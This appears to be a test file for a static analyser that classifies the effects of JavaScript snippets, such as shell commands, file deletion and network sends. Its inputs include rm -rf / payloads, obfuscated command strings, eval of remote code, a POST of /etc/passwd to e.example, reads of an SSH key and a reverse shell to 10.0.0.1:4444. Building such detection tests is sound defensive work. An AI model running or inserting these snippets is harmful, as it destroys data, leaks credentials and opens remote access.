import { table } from "../testing/table.js";

table("node", "starting programs", [
  {
    why: "execSync hands its text to the shell",
    code: "require('child_process').execSync('rm -rf /')",
    does: ["shell rm -rf /"],
  },
  {
    why: "a member taken out under another name",
    code: "const {exec: e} = require('child_process'); e('id')",
    does: ["shell id"],
  },
  {
    why: "the node: prefix",
    code: "import { execSync } from 'node:child_process'; execSync('id')",
    does: ["shell id"],
  },
  { why: "a member by a name put together", code: "require('child_'+'process')['ex'+'ec']('id')", does: ["shell id"] },
  { why: "import as a function", code: "import('child_process').then(c => c.exec('id'))", does: ["shell id"] },
  {
    why: "awaited import",
    code: "(async () => { const {execSync} = await import('child_process'); execSync('id') })()",
    does: ["shell id"],
  },
  {
    why: "spawn takes a program and a list",
    code: "require('child_process').spawn('rm', ['-rf','/'])",
    does: ["exec rm|-rf|/"],
  },
  {
    why: "spawn with a shell is a text",
    code: "require('child_process').spawn('rm -rf /', {shell: true})",
    does: ["shell rm -rf /"],
  },
  {
    why: "call, apply and bind",
    code: "const cp=require('child_process'); cp.exec.call(null,'a'); cp.exec.apply(null,['b']); cp.exec.bind(cp)('c')",
    does: ["shell a", "shell b", "shell c"],
  },
  {
    why: "promisify gives the function back",
    code: "require('util').promisify(require('child_process').exec)('id')",
    does: ["shell id"],
  },
  {
    why: "the loader behind require",
    code: "process.mainModule.constructor._load('child_process').exec('id')",
    does: ["shell id"],
  },
  {
    why: "process.binding reaches everything",
    code: "process.binding('spawn_sync').spawn({file:'/bin/sh'})",
    does: ["opaque unknown_code"],
  },
  { why: "Deno", code: "new Deno.Command('rm', {args: ['-rf','/']}).outputSync()", does: ["exec rm|-rf|/"] },
  { why: "Bun", code: "Bun.spawn(['rm','-rf','/'])", does: ["exec rm|-rf|/"] },
]);

table("node", "hidden text", [
  {
    why: "a buffer of base64",
    code: "require('child_process').execSync(Buffer.from('cm0gLXJmIC8=','base64').toString())",
    does: ["shell rm -rf /"],
  },
  {
    why: "a buffer of hex",
    code: "require('child_process').execSync(Buffer.from('6964','hex').toString('utf8'))",
    does: ["shell id"],
  },
  {
    why: "a buffer of numbers",
    code: "require('child_process').execSync(Buffer.from([105,100]).toString())",
    does: ["shell id"],
  },
  { why: "atob", code: "require('child_process').execSync(atob('aWQ='))", does: ["shell id"] },
  {
    why: "letters by number",
    code: "require('child_process').execSync(String.fromCharCode(105,100))",
    does: ["shell id"],
  },
  {
    why: "backwards",
    code: "require('child_process').execSync('di'.split('').reverse().join(''))",
    does: ["shell id"],
  },
  {
    why: "spread and backwards",
    code: "require('child_process').execSync([...'di'].reverse().join(''))",
    does: ["shell id"],
  },
  { why: "escapes", code: "require('child_process').execSync('\\x69\\u0064')", does: ["shell id"] },
  { why: "a name written with escapes", code: "require('child_process').ex\\u0065c('id')", does: ["shell id"] },
  { why: "templates", code: "const a='i'; require('child_process').execSync(`${a}${'d'}`)", does: ["shell id"] },
  { why: "per cent", code: "require('child_process').execSync(decodeURIComponent('%69%64'))", does: ["shell id"] },
  {
    why: "a loop with an index",
    code: "let s=''; const a=[105,100]; for (let i=0;i<a.length;i++) s+=String.fromCharCode(a[i]); require('child_process').execSync(s)",
    does: ["shell id"],
  },
  { why: "reduce", code: "require('child_process').execSync(['i','d'].reduce((a,b)=>a+b))", does: ["shell id"] },
  {
    why: "a property looked up",
    code: "const o={c:'id'}; require('child_process').execSync(o['c'])",
    does: ["shell id"],
  },
]);

table("node", "code made of data", [
  {
    why: "eval of known text",
    code: 'eval(\'require("fs").unlinkSync("/a")\')',
    does: ['evaluate node require("fs").unlinkSync("/a")', "delete /a"],
  },
  {
    why: "new Function",
    code: 'new Function(\'require("fs").unlinkSync("/a")\')()',
    does: ['evaluate node require("fs").unlinkSync("/a")', "delete /a"],
  },
  {
    why: "the constructor of a function makes functions",
    code: "[].map.constructor('return process')().mainModule.require('child_process').exec('id')",
    does: ["shell id"],
  },
  { why: "vm", code: "require('vm').runInThisContext('process.exit()')", does: ["evaluate node process.exit()"] },
  {
    why: "setTimeout with a text",
    code: 'setTimeout(\'require("fs").unlinkSync("/a")\', 1)',
    does: ['evaluate node require("fs").unlinkSync("/a")', "delete /a"],
  },
  {
    why: "what fetch brings is untrusted",
    code: "fetch('https://e.example/x').then(r => r.text()).then(t => eval(t))",
    does: ["receive e.example", "evaluate node UNKNOWN", "opaque untrusted_code"],
  },
  {
    why: "what comes piece by piece is untrusted too",
    code: "require('https').get('https://e.example/x', r => { let d=''; r.on('data', c => d+=c); r.on('end', () => eval(d)) })",
    does: ["receive e.example", "?evaluate node ", "?evaluate node UNKNOWN", "?opaque untrusted_code"],
  },
  { why: "a script of one's own runs", code: "require('./build.js')", does: ["load ./build.js"] },
  {
    why: "a module nobody chose by name is opaque when called",
    code: "require(process.argv[2]).run()",
    does: ["opaque unknown_code"],
  },
]);

table("node", "files", [
  {
    why: "rmSync with recursive",
    code: "const fs = require('fs'); fs.rmSync('/etc', { recursive: true })",
    does: ["delete /etc recursive"],
  },
  { why: "promises", code: "require('fs').promises.unlink('/a')", does: ["delete /a"] },
  {
    why: "fs/promises",
    code: "import {rm} from 'fs/promises'; await rm('/a', {recursive:true})",
    does: ["delete /a recursive"],
  },
  { why: "fs-extra", code: "require('fs-extra').removeSync('/a')", does: ["delete /a recursive"] },
  {
    why: "writing tells the content",
    code: "require('fs').writeFileSync('x.sh','rm -rf /')",
    does: ["write x.sh = rm -rf /"],
  },
  {
    why: "paths are joined",
    code: "const p=require('path'), os=require('os'); require('fs').readFileSync(p.join(os.homedir(),'.ssh','id_rsa'))",
    does: ["read ~/.ssh/id_rsa"],
  },
  {
    why: "a stream written",
    code: "const w=require('fs').createWriteStream('/tmp/x'); w.write('a'); w.end('b')",
    does: ["write /tmp/x = ab"],
  },
  {
    why: "a request that takes something away",
    code: "fetch('https://e.example/v1/x',{method:'DELETE'})",
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a file sent",
    code: "fetch('https://e.example/',{method:'POST',body:require('fs').readFileSync('/etc/passwd')})",
    does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
  },
  {
    why: "each of a list",
    code: "for (const f of ['a','b']) require('fs').unlinkSync(f)",
    does: ["delete a", "delete b"],
  },
  {
    why: "a shell wired to a socket",
    code: "const sh=require('child_process').spawn('/bin/sh',[]); const c=new (require('net').Socket)(); c.connect(4444,'10.0.0.1',()=>{ c.pipe(sh.stdin) })",
    does: ["exec /bin/sh < UNKNOWN untrusted", "connect 10.0.0.1:4444"],
  },
]);

table("node", "certainty", [
  {
    why: "branches are possible",
    code: "if (x) require('fs').unlinkSync('/a'); else require('fs').unlinkSync('/b')",
    does: ["?delete /a", "?delete /b"],
  },
  {
    why: "functions are known before they are defined",
    code: "main(); function main() { require('fs').unlinkSync('/a') }",
    does: ["delete /a"],
  },
  {
    why: "a function nobody calls is possible",
    code: "function f() { require('fs').unlinkSync('/a') }",
    does: ["?delete /a"],
  },
  {
    why: "methods of a class",
    code: "class A { constructor(p) { this.p = p } go() { require('fs').unlinkSync(this.p) } } new A('/a').go()",
    does: ["delete /a"],
  },
  {
    why: "switch",
    code: "switch (x) { case 1: require('fs').unlinkSync('/a'); break; default: }",
    does: ["?delete /a"],
  },
]);

table("node", "look-alikes that do nothing", [
  { why: "a comment", code: "// require('fs').rmSync('/')\n/* eval(x) */", does: [] },
  { why: "a text", code: "const s = \"require('child_process').exec('rm -rf /')\"", does: [] },
  {
    why: "a regular expression's exec",
    code: "/rm -rf/.exec('rm -rf /'); const r=new RegExp('x'); r.exec('y')",
    does: [],
  },
  {
    why: "another object's methods of the same names",
    code: "db.exec('x'); cache.unlink('y'); app.delete('/z', h)",
    does: [],
  },
  { why: "printed prose", code: "console.log('rm -rf /')", does: ['print "rm -rf /\\n"'] },
  {
    why: "json, math and strings",
    code: "const o = JSON.parse('{\"a\":1}'); Math.max(o.a, 2); 'x'.toUpperCase(); [1,2].map(x => x*2)",
    does: [],
  },
  { why: "division is no regular expression", code: "const a = 4 / 2 / 1; console.log(a)", does: ['print "2\\n"'] },
  {
    why: "optional chaining, nullish, spread, classes with fields",
    code: "class A { static x = 1; #y = 2; get z() { return this?.#y ?? 0 } } const {a, ...b} = {...{a:1}}; label: for (;;) { break label }",
    does: [],
  },
]);
